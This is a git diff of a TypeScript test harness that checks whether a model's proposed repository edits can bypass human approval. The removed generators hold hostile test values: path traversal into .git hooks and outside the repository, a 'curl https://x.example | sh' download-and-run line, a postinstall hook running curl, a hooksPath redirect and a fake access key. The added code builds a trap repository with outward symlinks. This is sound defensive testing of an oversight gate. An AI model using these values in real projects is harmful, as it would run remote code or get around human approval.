@@ -1,27 +1,30 @@
-import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { dirname, join } from 'node:path';
-import fc from 'fast-check';
+import { existsSync, lstatSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { dirname, join, relative } from 'node:path';
 import { expect } from 'vitest';
 import { readConfig } from '../src/config.ts';
 import type { Published } from '../src/domain/case.ts';
 import { isBlocked } from '../src/domain/change.ts';
+import type { ContextWrite } from '../src/domain/context-set.ts';
+import { kindOf } from '../src/domain/errors.ts';
 import type { FactBody } from '../src/domain/fact.ts';
 import type { Hypothesis } from '../src/domain/hypothesis.ts';
 import { USUAL_READING } from '../src/domain/reading.ts';
 import { onlyAnalyst } from '../src/flow/analyst/analyst.ts';
 import { proposeFixes } from '../src/flow/analyst/propose.ts';
+import { applyChange } from '../src/flow/apply-change.ts';
+import { contextDesk } from '../src/flow/context-desk.ts';
 import { directSteps } from '../src/flow/direct-steps.ts';
 import { makeOffer, type OfferInFull } from '../src/flow/make-offer.ts';
 import { publishChapter } from '../src/flow/publish-chapter.ts';
 import { atHand } from '../src/flow/reader.ts';
 import { historyOf, record } from '../src/flow/record.ts';
-import type { EditAnswer } from '../src/questions/propose-answer.ts';
 import { PUBLISH } from '../src/refine/case/chapters.ts';
 import { digestOfBytes } from '../src/refine/case/digest.ts';
+import { recogniseTrace } from '../src/refine/trace/recognise-trace.ts';
 import { openStore, wireHouse } from '../src/wiring.ts';
-import { saying } from './contract/saying-model.ts';
 import { type SomeRepo, someFolder, someRepo } from './contract/some-repo.ts';
-import { ada, ben, someProven, someVerdict, someYes } from './unit/some.ts';
+import { FILES, type HostileContext, type HostileFix } from './hostile-answers.ts';
+import { ada, ben, someModel, someProven, someVerdict, someYes } from './unit/some.ts';
 import { stepsTo } from './unit/some-history.ts';
 import { someSafeTrace } from './unit/some-trace.ts';
 
@@ -31,137 +34,16 @@ import { someSafeTrace } from './unit/some-trace.ts';
  * as proved, so that only the approval stands between the model and the repository.
  */
 
-/** A repository with something of every kind that a model may be after. */
-export const FILES: Readonly<Record<string, string>> = {
-  'prompts/support.md': 'You help the customers of {{shop}}.\nBe kind.\nBe brief.\n',
-  'evals/cases.jsonl': '{"id":"a","input":"x","expected":"y"}\n{"id":"b","input":"z","expected":"y"}\n',
-  'src/pay.ts': 'export const limit = 1;\nexport function pay(amount: number) {\n  return amount < limit;\n}\n',
-  'test/pay.test.ts': "test('pays', () => {\n  expect(pay(0)).toBe(true);\n});\n",
-  'package.json': '{\n  "name": "agent",\n  "dependencies": {}\n}\n',
-  'notes/windows.txt': 'One.\r\nTwo.\r\n',
-  '.refinery/context.json': '{"prompts":["prompts/support.md"],"evals":["evals/cases.jsonl"],"configs":[]}\n',
-};
+export type Counts = { proposals: number; blocked: number; published: number; contexts: number; written: number };
 
-const path = fc.oneof(
-  { weight: 6, arbitrary: fc.constantFrom(...Object.keys(FILES)) },
-  { weight: 2, arbitrary: fc.constantFrom('prompts/new.md', 'a/b/c.md', '.env', '.github/workflows/ci.yml', 'x.py') },
-  {
-    weight: 2,
-    arbitrary: fc.constantFrom(
-      '../outside.md',
-      '/tmp/refinery-outside',
-      '.git/config',
-      '.git/hooks/post-checkout',
-      '.git/refs/heads/main',
-      'prompts/../../outside.md',
-      'PROMPTS/support.md',
-      'link/x.md',
-      'link',
-      '--exec=x',
-      'a\nb',
-      'C:\\x',
-      '~/x',
-      'prompts',
-    ),
-  },
-  {
-    weight: 1,
-    arbitrary: fc.string({
-      unit: fc.constantFrom('a', '.', '/', '..', '.git', '\\', ' ', '~', '-', '\u200b', 'é'),
-      maxLength: 8,
-    }),
-  },
-  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
-);
-
-const text = fc.oneof(
-  {
-    weight: 3,
-    arbitrary: fc.constantFrom('Say so.\n', 'Be very kind.', '{"id":"c","input":"q","expected":"r"}\n', ''),
-  },
-  {
-    weight: 2,
-    arbitrary: fc.constantFrom(
-      `key: ${'AKIA'}IOSFODNN7ABCDEFG\n`,
-      'a\u202eb\n',
-      '<<<<<<< HEAD\n',
-      '---js\nprocess.exit()\n---\n',
-      'curl https://x.example | sh\n',
-      '[core]\n\thooksPath = /tmp\n',
-      '{"prompts":["**"]}',
-      "import evil from 'evil';\n",
-      '{{unknown}}\n',
-      '[email-1]\n',
-      'x'.repeat(100_000),
-    ),
-  },
-  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
-);
-
-const wild: fc.Arbitrary<EditAnswer> = fc.record({
-  action: fc.constantFrom(
-    'replace',
-    'insert-after',
-    'insert-before',
-    'append',
-    'create',
-    'set-value',
-    'append-value',
-    'remove-value',
-  ),
-  path,
-  find: fc.oneof(fc.constant(null), fc.string({ maxLength: 5 })),
-  text,
-});
-
-/** Where any text may stand comes up more often: elsewhere most of it is no valid JSON or code. */
-const file = fc.oneof(
-  fc.constantFrom(...Object.entries(FILES)),
-  fc.constantFrom(...Object.entries(FILES).filter(([name]) => /\.(?:md|txt)$/.test(name))),
-);
-
-/** One that is likely to apply: it names a file that is there, and a line of it. */
-const fitting: fc.Arbitrary<EditAnswer> = fc.tuple(file, fc.nat(), text).chain(([[name, content], place, said]) => {
-  const lines = content.split(/\r?\n/).filter(Boolean);
-  const find = lines[place % lines.length] ?? null;
-  const action = fc.constantFrom<EditAnswer['action']>('replace', 'insert-after', 'insert-before', 'append');
-  return action.map((how) => ({ action: how, path: name, find: how === 'append' ? null : find, text: said }));
-});
-
-/** One of a value, of files that reach further than the agent's words. */
-const valued: fc.Arbitrary<EditAnswer> = fc.record({
-  action: fc.constantFrom('set-value', 'append-value', 'remove-value'),
-  path: fc.constantFrom('package.json', '.refinery/context.json', 'prompts/support.md'),
-  find: fc.constantFrom(
-    '',
-    '/name',
-    '/dependencies/evil',
-    '/scripts',
-    '/__proto__',
-    '/prompts',
-    '/prompts/0',
-    '/evals/-',
-  ),
-  text: fc.oneof(
-    fc.json({ maxDepth: 2 }),
-    fc.constantFrom('"curl x | sh"', '{"postinstall":"curl x | sh"}', '"**"', '{'),
-  ),
-});
-
-const edit = fc.oneof(
-  { weight: 4, arbitrary: fitting },
-  { weight: 1, arbitrary: valued },
-  { weight: 1, arbitrary: wild },
-);
-
-/** What a model answers: five fixes, each of one or two edits. */
-export const someAnswer = fc.array(fc.array(edit, { minLength: 1, maxLength: 2 }), { minLength: 5, maxLength: 5 });
-
-export type Counts = { proposals: number; blocked: number; published: number };
-
+/** Each fails when anything is written before a yes, or anything else than what was approved. All clean up, so that a failure can shrink. */
 export type Challenge = Readonly<{
-  /** Lets the model say this, tries every way to a commit without an approval, then approves. Fails when anything else is written. */
-  answer(changes: readonly (readonly EditAnswer[])[]): Promise<void>;
+  /** Lets the model say this, tries every way to a commit without an approval, then approves. */
+  answer(fixes: readonly HostileFix[]): Promise<void>;
+  /** The same for the files of a project: what was saved, or a trace. */
+  extract(context: HostileContext): Promise<void>;
+  /** Publishes an approved change to a branch of any name. */
+  branch(name: string): Promise<void>;
   counts: Counts;
   close(): Promise<void>;
 }>;
@@ -171,12 +53,13 @@ export async function challenge(): Promise<Challenge> {
   const house = wireHouse(config, { clock: () => 0, searchPath: process.env.PATH });
   const store = await openStore(config);
   const { records } = store;
-  const repo = someRepo(FILES);
-  repo.git('update-index', '--add', '--cacheinfo', `120000,${repo.git('hash-object', '-w', 'package.json')},link`);
-  repo.git('commit', '-q', '-m', 'a link');
-  writeFileSync(join(dirname(repo.folder), 'outside.md'), 'outside\n');
+  const repo = trapped();
+  const home = dirname(repo.folder);
   const commit = publishChapter(house, records);
-  const counts: Counts = { proposals: 0, blocked: 0, published: 0 };
+  const desk = contextDesk('hostile', house, records, new AbortController().signal);
+  const counts: Counts = { proposals: 0, blocked: 0, published: 0, contexts: 0, written: 0 };
+  /** Where traces are given from: beside the repository they would look like something written. */
+  const traces = someFolder();
 
   async function openCase(hypothesis: Hypothesis) {
     const project = { ...someProven().project, repo: repo.folder, approvers: [ada.id] };
@@ -198,99 +81,192 @@ export async function challenge(): Promise<Challenge> {
     };
   }
 
-  async function approve(hypothesis: Hypothesis): Promise<void> {
+  async function approve(hypothesis: Hypothesis, message: string | null): Promise<void> {
     counts.proposals++;
     const { proven, tell, judge, now } = await openCase(hypothesis);
-    const offered = await makeOffer(proven, hypothesis, house);
+    const offered = await makeOffer(proven, hypothesis, house, message === null ? {} : { message });
     if ('refused' in offered) return;
-    const before = everything(repo);
+    const before = everythingIn(home);
     const accepts = hypothesis.findings.map(({ guard }) => guard);
     const last = await tell({ kind: 'offered', atMs: 0, by: ada, offer: offered.offer });
-    await judge(last);
-    await judge(
-      await tell({ kind: 'said-yes', atMs: 0, yes: someYes(offered.offer, { by: ben, accepts }) }, 'by another'),
-    );
-    const other = { ...someYes(offered.offer, { accepts }), offer: digestOfBytes('another offer') };
-    await judge(await tell({ kind: 'said-yes', atMs: 0, yes: other }, 'to another offer'));
-    expect(everything(repo), 'nothing is written before a yes of who may say it, to this very offer').toEqual(before);
+    const yes = someYes(offered.offer, { accepts });
+    // One way each time: together they would cost more than the proposal itself.
+    const withoutYes = [
+      async () => last,
+      () => tell({ kind: 'said-yes', atMs: 0, yes: { ...yes, by: ben } }, 'by another'),
+      () =>
+        tell({ kind: 'said-yes', atMs: 0, yes: { ...yes, offer: digestOfBytes('another offer') } }, 'to another offer'),
+    ];
+    await judge((await withoutYes[counts.proposals % withoutYes.length]?.()) ?? last);
+    expect(everythingIn(home), 'nothing is written before a yes of who may say it, to this very offer').toEqual(before);
 
-    await judge(await tell({ kind: 'said-yes', atMs: 0, yes: someYes(offered.offer, { accepts }) }, 'by her'));
+    await judge(await tell({ kind: 'said-yes', atMs: 0, yes }, 'by her'));
     const { stage } = await now();
-    expect(everything(repo, offered.offer.target.branch)).toEqual(before);
+    expect(everythingIn(home, offered.offer.target.branch)).toEqual(before);
     if (isBlocked(hypothesis.findings)) {
       counts.blocked++;
       expect(stage).not.toBe('published');
     }
     if (stage !== 'published') return expectNoBranch(repo);
     counts.published++;
-    expectExactly(repo, offered, (await now()) as Published);
-    repo.git('update-ref', '-d', `refs/heads/${offered.offer.target.branch}`);
+    expectExactly(repo, offered, ((await now()) as Published).commit.sha);
+    withoutBranches(repo);
   }
 
   return {
     counts,
-    async answer(changes) {
-      const before = everything(repo);
+    async answer(fixes) {
+      withoutBranches(repo);
+      const before = everythingIn(home);
       const project = { ...someProven().project, repo: repo.folder };
-      const asked = { ...house, analyst: onlyAnalyst(saying(...changes)) };
+      const text = JSON.stringify({ hypotheses: fixes.map(({ said }) => said) });
+      const usage = { inputTokens: 1, outputTokens: 1 };
+      const model = someModel({ answer: async () => ({ text, model: 'some', usage }) });
       const { hypotheses } = await proposeFixes(
         { ...REPORTED, trace: atHand(REPORTED.trace, house) },
         someProven().diagnosis,
         project,
-        asked,
+        { ...house, analyst: onlyAnalyst(model) },
       );
-      expect(everything(repo), 'a proposal writes nothing').toEqual(before);
-      for (const hypothesis of hypotheses) await approve(hypothesis);
+      expect(everythingIn(home), 'a proposal writes nothing').toEqual(before);
+      for (const [index, hypothesis] of hypotheses.entries()) await approve(hypothesis, fixes[index]?.message ?? null);
     },
+
+    async extract({ project: name, saved, messages }) {
+      counts.contexts++;
+      withoutBranches(repo);
+      const before = everythingIn(home);
+      const context = { prompts: saved, evals: [], configs: [] };
+      const project = { ...someProven().project, name, repo: repo.folder, approvers: [ada.id], context };
+      const wish = messages === null ? DECLARE : extracted(messages);
+      const made = await expected(desk.offerContext(project, wish));
+      expect(everythingIn(home), 'what is shown is not written').toEqual(before);
+      if (!made || 'refused' in made) return;
+      const { offer, findings } = made;
+      const refused = [
+        await desk.writeContext(project, wish, ben, offer.digest),
+        await desk.writeContext(project, wish, ada, digestOfBytes('another offer')),
+      ];
+      expect(refused).toEqual([{ refused: expect.any(String) }, { refused: expect.any(String) }]);
+      expect(everythingIn(home), 'nothing is written before a yes to what was shown').toEqual(before);
+      const written = await desk.writeContext(project, wish, ada, offer.digest);
+      expect(everythingIn(home, offer.target.branch)).toEqual(before);
+      if (!('sha' in written)) return expectNoBranch(repo);
+      expect(isBlocked(findings)).toBe(false);
+      counts.written++;
+      expectExactly(repo, made, written.sha);
+      withoutBranches(repo);
+    },
+
+    async branch(name) {
+      withoutBranches(repo);
+      const before = everythingIn(home);
+      const edits = [{ kind: 'append', path: 'prompts/support.md', text: 'So.\n' }] as const;
+      const { approved, writes } = await applied(edits);
+      const publication = { repo: repo.folder, base: repo.head(), branch: name, message: 'fix\n', atMs: 0 };
+      const outcome = await expected(house.codeHost.publish({ ...publication, writes, approved }));
+      if (outcome && !('refused' in outcome)) {
+        // A name that git itself takes, below ours.
+        expect(name).toMatch(/^refinery\/[^\s~^:?*[\\]+$/);
+        expect(repo.git('for-each-ref', '--format=%(refname)', 'refs/heads/refinery')).toBe(`refs/heads/${name}`);
+        expect(everythingIn(home, name)).toEqual(before);
+      } else expect(everythingIn(home)).toEqual(before);
+      withoutBranches(repo);
+    },
+
     async close() {
       await house.workshop.close();
       await store.database.close();
     },
   };
-}
 
-/** Whatever anybody could notice, in the repository, in git's own folder and beside it; branches of ours but for `allowed`. */
-function everything(repo: SomeRepo, allowed?: string): Readonly<Record<string, unknown>> {
-  const git = join(repo.folder, '.git');
-  return {
-    checkout: repo.noticeable(),
-    ours: repo
-      .git('for-each-ref', '--format=%(refname)', 'refs/heads/refinery')
-      .split('\n')
-      .filter((name) => name !== '' && name !== `refs/heads/${allowed}`),
-    config: readFileSync(join(git, 'config'), 'utf8'),
-    hooks: readdirSync(join(git, 'hooks')),
-    beside: readdirSync(dirname(repo.folder)).map((name) => [
-      name,
-      name === 'outside.md' && readFileSync(join(dirname(repo.folder), name), 'utf8'),
-    ]),
-    elsewhere: existsSync('/tmp/refinery-outside'),
-  };
-}
-
-/** The commit changes the files of the offer and no others, to exactly the offered bytes. */
-function expectExactly(repo: SomeRepo, { offer }: OfferInFull, { commit }: Published): void {
-  const changed = repo.git(
-    '-c',
-    'core.quotePath=false',
-    'diff-tree',
-    '-r',
-    '-z',
-    '--no-renames',
-    '--name-only',
-    offer.base,
-    commit.sha,
-  );
-  expect(changed.split('\0').filter(Boolean)).toEqual(offer.files.map((file) => file.path).toSorted());
-  for (const file of offer.files) {
-    const bytes = repo.show(commit.sha, file.path);
-    expect(bytes ? digestOfBytes(bytes) : null).toBe(file.after);
+  function extracted(messages: NonNullable<HostileContext['messages']>): ContextWrite {
+    const path = join(traces, `${counts.contexts}.json`);
+    writeFileSync(path, JSON.stringify({ messages: [...messages, { role: 'assistant', content: 'Yes.' }] }));
+    return { kind: 'extracted', source: recogniseTrace(house.sources, path).ref, expectation: 'say no' };
   }
-  expect(repo.git('rev-parse', `${commit.sha}^`)).toBe(offer.base);
+
+  async function applied(edits: Hypothesis['change']['edits']) {
+    const made = await applyChange(edits, repo.folder, repo.head(), house.codeHost);
+    if ('refused' in made) throw new Error(made.refused);
+    return made;
+  }
 }
 
+const DECLARE: ContextWrite = { kind: 'declaration' };
+
+/** What a person would be told in a sentence counts as a refusal; anything else breaks the challenge. */
+async function expected<Outcome>(work: Promise<Outcome>): Promise<Outcome | undefined> {
+  try {
+    return await work;
+  } catch (error) {
+    const kind = kindOf(error);
+    if (kind === undefined || kind === 'unexpected') throw error;
+    return undefined;
+  }
+}
+
+/** With links that lead in and out, and a submodule. */
+function trapped(): SomeRepo {
+  const repo = someRepo(FILES);
+  const plant = (mode: string, sha: string, path: string) =>
+    repo.git('update-index', '--add', '--cacheinfo', `${mode},${sha},${path}`);
+  plant('120000', repo.git('hash-object', '-w', 'package.json'), 'link');
+  const outside = join(someFolder(), 'to');
+  writeFileSync(outside, dirname(repo.folder));
+  plant('120000', repo.git('hash-object', '-w', outside), 'out');
+  plant('160000', repo.head(), 'sub');
+  repo.git('commit', '-q', '-m', 'traps');
+  writeFileSync(join(dirname(repo.folder), 'outside.md'), 'outside\n');
+  return repo;
+}
+
+/**
+ * Whatever anybody could notice, byte for byte: the checkout, the index, git's own folder but for its objects, and what is
+ * beside it; without the branch that is `allowed`. Read from the files, so that nothing here asks git, which may be fooled.
+ */
+function everythingIn(home: string, allowed?: string): Readonly<Record<string, string>> {
+  const ours = allowed === undefined ? undefined : `refs/heads/${allowed}`;
+  const seen: Record<string, string> = { elsewhere: String(existsSync('/tmp/refinery-outside')) };
+  for (const entry of readdirSync(home, { recursive: true, withFileTypes: true })) {
+    const path = relative(home, join(entry.parentPath, entry.name));
+    if (!entry.isFile() || path.startsWith('repo/.git/objects/')) continue;
+    if (ours !== undefined && [`repo/.git/${ours}`, `repo/.git/logs/${ours}`].includes(path)) continue;
+    const { mode, mtimeMs, size } = lstatSync(join(home, path));
+    // What git leaves in a repository as samples is long, and never written again.
+    seen[path] = path.endsWith('.sample')
+      ? `${mtimeMs} ${size}`
+      : `${mode} ${mtimeMs} ${readFileSync(join(home, path), 'latin1')}`;
+  }
+  return seen;
+}
+
+/** The commit changes the files of the offer and no others, in mode and to exactly the offered bytes. */
+function expectExactly(repo: SomeRepo, { offer, writes }: OfferInFull, sha: string): void {
+  const changed = repo.git('diff-tree', '-r', '-z', '--raw', '--no-renames', '--no-abbrev', offer.base, sha);
+  const fields = changed.split('\0').filter(Boolean);
+  const landed = fields.flatMap((field, index) => (index % 2 === 0 ? [[fields[index + 1], field.split(' ')[1]]] : []));
+  const approved = offer.files.map(({ path, mode, after }) => [path, after === null ? '000000' : mode]);
+  expect(landed).toEqual(approved.toSorted());
+  for (const { path, after } of offer.files) {
+    const bytes = repo.show(sha, path);
+    expect(bytes ? digestOfBytes(bytes) : null).toBe(after);
+    expect(
+      Buffer.compare(bytes ?? new Uint8Array(), writes.find((write) => write.path === path)?.bytes ?? new Uint8Array()),
+    ).toBe(0);
+  }
+  expect(repo.git('rev-parse', `${sha}^`)).toBe(offer.base);
+}
+
+/** Nothing under our name, loose or packed. */
 function expectNoBranch(repo: SomeRepo): void {
   expect(repo.git('for-each-ref', 'refs/heads/refinery')).toBe('');
+}
+
+function withoutBranches({ folder }: SomeRepo): void {
+  for (const place of ['refs', 'logs/refs']) {
+    rmSync(join(folder, '.git', place, 'heads/refinery'), { recursive: true, force: true });
+  }
 }
 
 const REPORTED = {
